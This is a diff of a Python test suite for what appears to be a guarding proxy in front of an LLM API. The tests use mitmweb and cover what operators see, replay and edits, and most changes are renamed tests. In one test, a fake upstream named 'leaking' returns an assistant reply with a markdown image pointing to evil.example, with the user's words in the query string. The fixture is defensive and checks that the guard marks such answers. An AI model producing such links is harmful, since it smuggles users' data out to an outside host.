@@ -52,7 +52,7 @@ def web(running: Running) -> Iterator[httpx.Client]:
         yield client
 
 
-def test_mitmweb_shows_the_crossing_and_no_more(running: Running, web: httpx.Client, upstream: Upstream) -> None:
+def test_mitmweb_shows_only_what_was_sent(running: Running, web: httpx.Client, upstream: Upstream) -> None:
     request_id = _exchange(running)
     sent = upstream.recorded[-1]
     flow = flow_with(web, request_id)
@@ -187,7 +187,7 @@ def test_a_redirect_ends_and_shows_what_the_upstream_said(running: Running, upst
     assert receipt["outcome"]["outcome"] == "upstream_error"
 
 
-def test_an_answer_that_the_guard_touched_stands_out(running: Running, upstream: Upstream) -> None:
+def test_an_answer_that_the_guard_changed_is_marked(running: Running, upstream: Upstream) -> None:
     def leaking(request: Recorded) -> Reply:
         said = request.json["messages"][-1]["content"].split()[-1]
         return completion({"role": "assistant", "content": f"![x](https://evil.example/?q={said})"})
@@ -262,8 +262,8 @@ def test_a_shown_flow_cannot_be_replayed(running: Running, upstream: Upstream) -
     assert _receipts(running) == before
 
 
-def test_an_edit_of_what_has_crossed_is_told_apart(running: Running, upstream: Upstream) -> None:
-    """The list may be scribbled in; what crossed and what the client got stay what they were."""
+def test_an_edit_after_sending_is_marked(running: Running, upstream: Upstream) -> None:
+    """The operator may edit the list; the request as sent and the client's answer stay as they were."""
     request_id = _ask(running)
     with operator(running) as web:
         flow = flow_with(web, request_id)
